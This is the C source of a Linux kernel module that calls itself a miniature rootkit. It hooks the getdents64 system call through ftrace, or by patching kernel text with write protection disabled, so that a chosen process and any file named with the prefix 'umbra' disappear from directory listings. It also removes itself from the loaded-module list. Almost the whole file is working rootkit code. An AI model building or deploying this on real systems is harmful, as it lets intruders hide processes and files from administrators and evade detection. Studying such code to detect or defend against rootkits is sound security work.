// SPDX-License-Identifier: GPL-2.0
/*
 * A rootkit in miniature. It stands in the way of getdents64 and leaves out of every listing: one process, every file
 * whose name begins with "umbra", and so its own folder in /sys/module; and it takes itself out of the list of modules.
 *
 *   umbra.ko target=ADDRESS [patch=1]      ADDRESS: that of __x64_sys_getdents64
 *
 * With patch=0 the way in is ftrace. With patch=1 it is a jump written over the no-op that ftrace would use, with write
 * protection off. In /sys/module/umbra/parameters: pid can be written, the process to hide; hooked=0 takes everything back;
 * place and hook say what was rewritten and where the code is that stands in the way.
 */
#include <linux/types.h>
#include <linux/dirent.h>
#include <linux/ftrace.h>
#include <linux/irqflags.h>
#include <linux/module.h>
#include <linux/slab.h>
#include <linux/uaccess.h>

#define PREFIX "umbra"
#define JUMP 5

typedef long (*call_t)(const struct pt_regs *regs);

static ulong target;
static bool patch;
static int pid;
static bool hooked;

static const unsigned char nop[JUMP] = { 0x0f, 0x1f, 0x44, 0x00, 0x00 };
static unsigned char *place;
static char place_text[20], hook_text[20];
static char *place_said = place_text, *hook_said = hook_text;
static call_t original;
static struct list_head *before;

static bool is_hidden(const char *name)
{
	char number[12];

	snprintf(number, sizeof(number), "%d", pid);
	return !strncmp(name, PREFIX, strlen(PREFIX)) || (pid && !strcmp(name, number));
}

static long hook(const struct pt_regs *regs)
{
	char __user *to = (char __user *)regs->si;
	long length = original(regs);
	long kept = 0, at = 0;
	char *copy;

	if (length <= 0)
		return length;
	copy = kmalloc(length, GFP_KERNEL);
	if (!copy || copy_from_user(copy, to, length))
		goto out;
	while (at < length) {
		struct linux_dirent64 *entry = (void *)(copy + at);
		long size = entry->d_reclen;

		at += size;
		if (is_hidden(entry->d_name))
			continue;
		memmove(copy + kept, entry, size);
		kept += size;
	}
	if (!copy_to_user(to, copy, kept))
		length = kept;
out:
	kfree(copy);
	return length;
}

static void notrace on_call(unsigned long ip, unsigned long parent, struct ftrace_ops *ops, struct ftrace_regs *fregs)
{
	struct pt_regs *regs = ftrace_get_regs(fregs);

	if (regs && !within_module(parent, THIS_MODULE))
		regs->ip = (unsigned long)hook;
}

static struct ftrace_ops ops = {
	.func = on_call,
	.flags = FTRACE_OPS_FL_SAVE_REGS | FTRACE_OPS_FL_IPMODIFY,
};

static void write_text(unsigned char *to, const unsigned char *bytes)
{
	unsigned long flags, cr0;

	local_irq_save(flags);
	asm volatile("mov %%cr0, %0" : "=r"(cr0));
	asm volatile("mov %0, %%cr0" : : "r"(cr0 & ~X86_CR0_WP) : "memory");
	memcpy(to, bytes, JUMP);
	asm volatile("mov %0, %%cr0" : : "r"(cr0) : "memory");
	local_irq_restore(flags);
}

static int find_place(void)
{
	int i;

	for (i = 0; i < 12; i++) {
		place = (unsigned char *)target + i;
		if (!memcmp(place, nop, JUMP))
			break;
	}
	snprintf(place_text, sizeof(place_text), "%lx", (ulong)place);
	snprintf(hook_text, sizeof(hook_text), "%lx", (ulong)hook);
	return i == 12 ? -ENOENT : 0;
}

static int hook_by_patch(void)
{
	unsigned char jump[JUMP] = { 0xe9 };
	int distance;

	original = (call_t)(place + JUMP);
	distance = (unsigned char *)hook - (place + JUMP);
	memcpy(jump + 1, &distance, sizeof(distance));
	write_text(place, jump);
	return 0;
}

static int hook_by_ftrace(void)
{
	int error = ftrace_set_filter_ip(&ops, (ulong)place, 0, 0);

	original = (call_t)target;
	return error ? error : register_ftrace_function(&ops);
}

static int begin(void)
{
	int error = find_place();

	if (!error)
		error = patch ? hook_by_patch() : hook_by_ftrace();
	if (error)
		return error;
	before = THIS_MODULE->list.prev;
	list_del(&THIS_MODULE->list);
	hooked = true;
	return 0;
}

static void end(void)
{
	if (!hooked)
		return;
	if (patch)
		write_text(place, nop);
	else
		unregister_ftrace_function(&ops);
	list_add(&THIS_MODULE->list, before);
	hooked = false;
}

static int set_hooked(const char *value, const struct kernel_param *param)
{
	bool on;
	int error = kstrtobool(value, &on);

	if (!error && !on)
		end();
	return error;
}

static const struct kernel_param_ops hooked_ops = { .set = set_hooked, .get = param_get_bool };

module_param(target, ulong, 0400);
module_param(patch, bool, 0400);
module_param(pid, int, 0600);
module_param_named(place, place_said, charp, 0400);
module_param_named(hook, hook_said, charp, 0400);
module_param_cb(hooked, &hooked_ops, &hooked, 0600);

static int __init umbra_init(void)
{
	return target ? begin() : -EINVAL;
}

static void __exit umbra_exit(void)
{
	end();
}

module_init(umbra_init);
module_exit(umbra_exit);
MODULE_DESCRIPTION("hides a process, files and itself");
MODULE_LICENSE("GPL");
